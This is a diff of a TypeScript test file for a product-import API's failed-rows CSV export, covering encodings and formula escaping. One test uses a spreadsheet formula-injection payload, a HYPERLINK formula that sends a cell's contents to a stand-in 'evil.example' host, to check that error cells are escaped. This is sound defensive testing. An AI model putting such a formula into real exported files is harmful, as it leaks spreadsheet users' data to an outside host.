@@ -5,35 +5,14 @@ import * as zlib from "node:zlib";
 import { describe, expect, it } from "vitest";
 import { readConfig } from "../../src/config.ts";
 import { sweep } from "../../src/imports/jobs/sweeper.ts";
+import { type CsvDelimiter, CsvParser } from "../../src/imports/read/csv.ts";
 import type { ImportMessage } from "../../src/model/import-message.ts";
 import { type ConsumerEnv, consumerEnv, createQueuedJob, deliver, failingBatches, importDirect, jobRecord } from "../consumer-helpers.ts";
+import { cell, ERROR_COLUMNS, failedRows, failedRowsText, messagesByLine } from "../failed-rows-helpers.ts";
 import { createTenant, problemOf, request } from "../helpers.ts";
 import { importFile, rowErrors } from "../imports-helpers.ts";
 import { exportFile, SHOPIFY_CLASSIC_HEADER, SHOPIFY_ROWS } from "../preset-exports.ts";
 import { utf16Bytes, windows1252Bytes } from "../unit/imports/parser-helpers.ts";
-
-const ERROR_COLUMNS = "_error_line,_error_column,_error_code,_error_message";
-
-async function failedRows(key: string, jobId: string): Promise<{ res: Response; bytes: Uint8Array }> {
-  const res = await request(`/api/v1/products/import/${jobId}/failed-rows`, { key });
-  return { res, bytes: new Uint8Array(await res.arrayBuffer()) };
-}
-
-async function failedRowsText(key: string, jobId: string): Promise<string> {
-  const { res, bytes } = await failedRows(key, jobId);
-  expect(res.status).toBe(200);
-  return new TextDecoder().decode(bytes);
-}
-
-/** The message the job's error list gives for a line (its problems joined as the failed-rows file joins them). */
-async function messagesByLine(key: string, jobId: string): Promise<Map<number, string>> {
-  const byLine = new Map<number, string>();
-  for (const e of await rowErrors(key, jobId)) byLine.set(e.line, byLine.has(e.line) ? `${byLine.get(e.line)} ${e.message}` : e.message);
-  return byLine;
-}
-
-/** A cell as the failed-rows file writes it with `delimiter`: quoted when it holds the delimiter or a quote. */
-const cell = (text: string, delimiter = ",") => (text.includes(delimiter) || text.includes('"') ? `"${text.replaceAll('"', '""')}"` : text);
 
 describe("the failed rows of a CSV file", () => {
   it("are the header and the rejected records in Windows-1252 with ';', their problems appended; fixed, they import clean", async () => {
@@ -81,6 +60,12 @@ describe("the failed rows of a CSV file", () => {
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-16le");
     expect(bytes).toEqual(utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,テスト,x,3,price,invalid_price,${cell(message)}\n`, "le", true));
 
+    // Uploaded again, still failing: its problem cells give way to the new ones.
+    const failing = await importFile(t.key, utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,"テ,スト",y,3,price,invalid_price,x\n`, "le", true));
+    expect(failing).toMatchObject({ status: "completed", rejected_rows: 1, ignored_columns: [] });
+    const [error] = await rowErrors(t.key, failing.id);
+    expect((await failedRows(t.key, failing.id)).bytes).toEqual(utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,"テ,スト",y,2,price,invalid_price,${cell(error!.message)}\n`, "le", true));
+
     const again = await importFile(t.key, utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,テスト,2,3,price,invalid_price,x\n`, "le", true));
     expect(again).toMatchObject({ status: "completed", created: 1, error_count: 0, ignored_columns: [] });
   });
@@ -110,6 +95,94 @@ describe("the failed rows of a CSV file", () => {
     const job = await importFile(t.key, new Uint8Array(zlib.gzipSync(plain)), { headers: { "content-encoding": "gzip" } });
     expect(job).toMatchObject({ status: "completed", content_encoding: "gzip", failed_rows: 1 });
     expect(await failedRowsText(t.key, job.id)).toMatch(new RegExp(`^sku,name,price,${ERROR_COLUMNS}\nG-2,Gem,oops,3,price,invalid_price,`));
+  });
+});
+
+/** A CSV text's records as the import's parser reads them. */
+function csvRecords(text: string, delimiter: CsvDelimiter): string[][] {
+  const parser = new CsvParser({ delimiter });
+  const records = parser.push(new TextEncoder().encode(text));
+  for (let more = parser.finish(); more.length > 0; more = parser.finish()) records.push(...more);
+  return records.map((record) => record.fields);
+}
+
+/** The same problems of the same values, line by line. */
+async function sameProblems(key: string, jobId: string, expectedJobId: string): Promise<void> {
+  const problems = async (id: string) => (await rowErrors(key, id)).map(({ line, column, code, value }) => ({ line, column, code, value }));
+  expect(await problems(jobId)).toEqual(await problems(expectedJobId));
+}
+
+describe("the problem cells of the failed rows", () => {
+  it("are formula-escaped as the CSV error report's, while the merchant's own cells come byte for byte and import again as they were", async () => {
+    const t = await createTenant();
+    const formula = '=HYPERLINK("http://evil.example/?"&A1;"open")';
+    const quoted = cell(formula, ";");
+    const text = `sku;name;price;currency\nF-1;${quoted};1.00;${quoted}\nF-2;+1;1.00;+1\nF-3;@x;1.00;@x\nF-4;-2;1.00;-2\n`;
+    const job = await importFile(t.key, text);
+    expect(job).toMatchObject({ status: "completed", rejected_rows: 4, failed_rows: 4 });
+
+    const reportRes = await request(`/api/v1/products/import/${job.id}/errors`, { key: t.key, headers: { accept: "text/csv" } });
+    expect(reportRes.status).toBe(200);
+    const report = csvRecords(await reportRes.text(), ",").slice(1);
+    const body = await failedRowsText(t.key, job.id);
+    const records = csvRecords(body, ";");
+    expect(records[0]).toEqual(["sku", "name", "price", "currency", ...ERROR_COLUMNS.split(",")]);
+    const source = text.split("\n");
+    const lines = body.split("\n");
+    for (let i = 1; i <= 4; i++) {
+      const line = i + 1;
+      // The record as uploaded, then its problems: the cells the error report has for its line, formula-escaped alike.
+      expect(lines[i]!.startsWith(`${source[i]};`)).toBe(true);
+      const reported = report.filter((row) => row[0] === String(line));
+      expect(reported.length).toBeGreaterThan(0);
+      expect(records[i]!.slice(4)).toEqual([
+        String(line),
+        reported.map((row) => row[1]).join("; "),
+        reported.map((row) => row[2]).join("; "),
+        reported.map((row) => row[3]).join(" "),
+      ]);
+      for (const problemCell of records[i]!.slice(4)) expect(problemCell).not.toMatch(/^[=+\-@\t\r\0]/);
+    }
+    // The formula is echoed in the message, inside the one cell; the report's value cell, which starts with it, is
+    // escaped; the merchant's cells keep it as written.
+    const f1 = report.find((row) => row[0] === "2" && row[1] === "currency")!;
+    expect(f1[3]).toContain("=HYPERLINK(");
+    expect(f1[4]).toMatch(/^'=HYPERLINK\(/);
+    expect(records[1]!.slice(0, 4)).toEqual(["F-1", formula, "1.00", formula]);
+    expect(records.slice(2).map((r) => r.slice(0, 4))).toEqual([
+      ["F-2", "+1", "1.00", "+1"],
+      ["F-3", "@x", "1.00", "@x"],
+      ["F-4", "-2", "1.00", "-2"],
+    ]);
+
+    // Uploaded again as it is, the records read the same cells: the same problems, of the same values.
+    const again = await importFile(t.key, body);
+    expect(again).toMatchObject({ status: "completed", rejected_rows: 4, ignored_columns: [] });
+    await sameProblems(t.key, again.id, job.id);
+  });
+
+  it("are in the file's encoding: a character Windows-1252 lacks is a '?', while the record's bytes stay as uploaded", async () => {
+    const t = await createTenant();
+    // JSON escapes bring characters Windows-1252 lacks into a cell: a CJK option name and an emoji one.
+    const text = 'sku;name;options\r\nE-1;Thé;"{""\\u65e5\\u672c"":""""}"\r\nE-2;Café;"{""\\ud83d\\ude00"":""""}"\r\n';
+    const job = await importFile(t.key, windows1252Bytes(text));
+    expect(job).toMatchObject({ status: "completed", encoding: "windows-1252", rejected_rows: 2, failed_rows: 2 });
+    const messages = await messagesByLine(t.key, job.id);
+    expect(messages.get(2)).toContain('"日本"');
+    expect(messages.get(3)).toContain('"😀"');
+
+    const { res, bytes } = await failedRows(t.key, job.id);
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=windows-1252");
+    const [header, e1, e2] = text.split("\r\n");
+    const expected =
+      `${header};${ERROR_COLUMNS.replaceAll(",", ";")}\r\n` +
+      `${e1};2;options;invalid_options;${cell(messages.get(2)!.replace("日本", "??"), ";")}\r\n` +
+      `${e2};3;options;invalid_options;${cell(messages.get(3)!.replace("😀", "?"), ";")}\r\n`;
+    expect(bytes).toEqual(windows1252Bytes(expected));
+
+    const again = await importFile(t.key, bytes);
+    expect(again).toMatchObject({ status: "completed", encoding: "windows-1252", rejected_rows: 2, ignored_columns: [] });
+    await sameProblems(t.key, again.id, job.id);
   });
 });
 
